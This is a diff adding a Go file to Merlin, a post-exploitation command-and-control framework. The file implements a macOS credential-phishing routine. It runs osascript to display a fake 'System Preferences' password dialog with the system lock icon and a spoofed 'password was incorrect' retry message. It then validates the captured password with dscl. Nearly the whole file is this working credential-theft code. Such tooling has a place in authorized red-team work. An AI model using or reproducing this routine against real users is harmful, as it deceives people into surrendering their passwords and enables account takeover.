@@ -0,0 +1,87 @@
+//go:build darwin
+
+/*
+Merlin is a post-exploitation command and control framework.
+
+This file is part of Merlin.
+Copyright (C) 2023 Russel Van Tuyl
+
+Merlin is free software: you can redistribute it and/or modify
+it under the terms of the GNU General Public License as published by
+the Free Software Foundation, either version 3 of the License, or
+any later version.
+
+Merlin is distributed in the hope that it will be useful,
+but WITHOUT ANY WARRANTY; without even the implied warranty of
+MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+GNU General Public License for more details.
+
+You should have received a copy of the GNU General Public License
+along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+*/
+
+package commands
+
+import (
+	// Standard
+	"errors"
+	"fmt"
+	"os/exec"
+	"os/user"
+	"strings"
+)
+
+// promptCredential displays a macOS authorization style dialog with osascript for the current user's password.
+// When failed is true, the dialog tells the user the password was incorrect
+func promptCredential(caption, message string, failed bool) (cred credential, err error) {
+	current, err := user.Current()
+	if err != nil {
+		return cred, fmt.Errorf("there was an error getting the current user: %s", err)
+	}
+	cred.User = current.Username
+
+	if caption == "" {
+		caption = "System Preferences"
+	}
+	if message == "" {
+		message = "System Preferences is trying to unlock user preferences.\n\nEnter your password to allow this."
+	}
+	if failed {
+		message = "The password you entered was incorrect.\n\n" + message
+	}
+	script := fmt.Sprintf(
+		`display dialog %s with title %s default answer "" with hidden answer buttons {"Cancel", "OK"} default button "OK" with icon file "System:Library:CoreServices:CoreTypes.bundle:Contents:Resources:LockedIcon.icns"`+"\n"+
+			`return text returned of result`,
+		appleScriptString(message), appleScriptString(caption),
+	)
+	// #nosec G204 -- the script only contains quoted operator provided text
+	out, err := exec.Command("osascript", "-e", script).Output()
+	if err != nil {
+		var exitErr *exec.ExitError
+		if errors.As(err, &exitErr) && strings.Contains(string(exitErr.Stderr), "-128") {
+			return cred, errPromptCanceled
+		}
+		return cred, fmt.Errorf("there was an error running osascript: %s", err)
+	}
+	cred.Password = strings.TrimSuffix(string(out), "\n")
+	return
+}
+
+// verifyCredential checks the password for the local user with dscl
+func verifyCredential(cred credential) (bool, error) {
+	// #nosec G204 -- the arguments are not interpreted by a shell
+	err := exec.Command("dscl", "/Local/Default", "-authonly", cred.User, cred.Password).Run()
+	if err != nil {
+		var exitErr *exec.ExitError
+		if errors.As(err, &exitErr) {
+			return false, nil
+		}
+		return false, fmt.Errorf("there was an error running dscl: %s", err)
+	}
+	return true, nil
+}
+
+// appleScriptString returns the text as a quoted AppleScript string literal
+func appleScriptString(text string) string {
+	return `"` + strings.NewReplacer(`\`, `\\`, `"`, `\"`).Replace(text) + `"`
+}